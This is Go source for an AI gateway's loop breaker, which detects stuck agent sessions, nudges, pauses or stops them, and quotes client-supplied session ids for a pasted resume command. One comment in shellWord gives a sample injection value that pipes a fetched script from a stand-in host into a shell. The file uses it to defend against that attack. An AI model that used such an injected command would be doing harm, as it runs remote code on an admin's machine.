package breaker

import (
	"context"
	"fmt"
	"strings"
	"time"

	"github.com/modelgate/modelgate/audit"
	"github.com/modelgate/modelgate/ledger"
	"github.com/modelgate/modelgate/money"
	"github.com/modelgate/modelgate/webhook"
)

// patternText says what a pattern is, for a session held by a trip the
// request did not see.
func patternText(pattern string) string {
	switch pattern {
	case PatternRepeat:
		return "it repeated the same tool call with the same result"
	case PatternCycle:
		return "it went round a short cycle of the same turns"
	case PatternFailing:
		return "its tool calls kept failing the same way"
	case PatternVelocity:
		return "it spent faster than its limit"
	case PatternTurns:
		return "it reached its turn limit"
	}
	return "it tripped the loop breaker"
}

// describe says what the session did, naming the tool when it called one.
func describe(f finding, tool string, r rules) string {
	call := "tool call"
	if tool != "" {
		call = "`" + webhook.Clean(tool, 40) + "` call"
	}
	switch f.pattern {
	case PatternRepeat:
		return fmt.Sprintf("the same %s with the same result %d times in its last %d turns", call, f.count, f.span)
	case PatternCycle:
		return fmt.Sprintf("the same cycle of %d turns %d times in a row (A→B→A→B…)", f.span, f.count)
	case PatternFailing:
		return fmt.Sprintf("%d turns in a row whose tool calls failed the same way (last: %s)", f.count, call)
	case PatternVelocity:
		return fmt.Sprintf("spending over %s a minute for five minutes", dollars(r.velocityPico))
	case PatternTurns:
		return fmt.Sprintf("%d turns, its limit", f.count)
	}
	return f.pattern
}

// nudgeNote is the note a nudge adds to the agent's next request.
func nudgeNote(what string) string {
	return "[Modelgate loop breaker] This session looks stuck: " + what +
		". Do not repeat it. Stop, say what is failing and why, and try a different approach or ask the user for help."
}

// chatLine is the one line a trip posts: who, which agent and repo, the
// pattern, the spend so far and what was done.
func chatLine(t Trip, what, key string) string {
	who := key
	if t.Person != "" {
		who = t.Person + ", key " + key
	}
	run := t.Agent
	if run == "" {
		run = "agent"
	}
	if t.Repo != "" {
		run += " in " + t.Repo
	}
	line := fmt.Sprintf("🔁 Agent loop — %s, %s, session %s: %s; %s spent so far (%s/min).",
		webhook.Clean(who, 120), webhook.Clean(run, 80), webhook.Clean(t.SessionID, 80), what, dollars(t.SpentPico), dollars(t.VelocityPico))
	switch t.Action {
	case ActionNudge:
		line += " The agent was sent a note to change course."
	case ActionPause:
		line += " Paused; resume: "
		if t.URL != "" {
			line += t.URL + " or "
		}
		line += "`caddy modelgate resume " + webhook.CleanWhole(shellWord(t.SessionID)) + " --api-key-id " + webhook.CleanWhole(shellWord(t.KeyID)) + "`."
	case ActionStop:
		line += " Stopped until an admin clears it: `caddy modelgate resume " + webhook.CleanWhole(shellWord(t.SessionID)) +
			" --api-key-id " + webhook.CleanWhole(shellWord(t.KeyID)) + "`."
	}
	return line
}

func dollars(pico int64) string {
	cents := (pico + money.PicoPerCent - 1) / money.PicoPerCent
	return money.Dollars(cents)
}

// Run posts, records and audits the trips of this instance until ctx
// ends. A trip is told once: only the instance whose store call tripped
// the session queues it.
func (b *Breaker) Run(ctx context.Context) {
	for {
		select {
		case <-ctx.Done():
			return
		case e := <-b.queue:
			b.tell(ctx, e)
		}
	}
}

func (b *Breaker) tell(ctx context.Context, e tripEvent) {
	ctx, cancel := context.WithTimeout(ctx, 15*time.Second)
	defer cancel()
	t := e.trip
	if b.o.Post != nil {
		if err := b.o.Post(ctx, e.text); err != nil {
			b.failed(fmt.Errorf("posting a loop breaker trip: %w", err))
		}
	}
	if b.o.Trips != nil {
		if s := b.o.Trips(); s != nil {
			err := s.RecordTrip(ctx, ledger.BreakerTrip{Time: t.Time, KeyID: t.KeyID, Workspace: t.Workspace, Person: t.Person,
				SessionID: t.SessionID, Agent: t.Agent, Pattern: t.Pattern, Action: t.Action, Turns: t.Turns,
				SpentPico: t.SpentPico, VelocityPico: t.VelocityPico, EstimatePico: t.EstimatePico})
			if err != nil {
				b.failed(fmt.Errorf("recording a loop breaker trip: %w", err))
			}
		}
	}
	b.o.Audit.Record(ctx, audit.Event{Time: t.Time, Actor: "gateway", Action: "breaker.trip", Target: t.SessionID,
		Fields: map[string]string{"api_key_id": t.KeyID, "pattern": t.Pattern, "action": t.Action, "agent": t.Agent,
			"spent": dollars(t.SpentPico), "turns": fmt.Sprint(t.Turns)}})
}

// Drain tells the trips queued so far, for tests and shutdown.
func (b *Breaker) Drain(ctx context.Context) {
	for {
		select {
		case e := <-b.queue:
			b.tell(ctx, e)
		default:
			return
		}
	}
}

// shellWord is s as one word of a POSIX shell command: as it is when it
// holds only characters no shell reads specially, else single-quoted. A
// session id is the client's text, and an admin pastes the resume command
// into a shell: `x;curl evil|sh` must stay one argument. '=' is quoted
// too: zsh, a common admin shell, expands a word that begins "=cmd" to
// the command's path.
func shellWord(s string) string {
	plain := s != ""
	for _, r := range s {
		if !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || strings.ContainsRune("._-:/+@%,", r)) {
			plain = false
			break
		}
	}
	if plain {
		return s
	}
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}
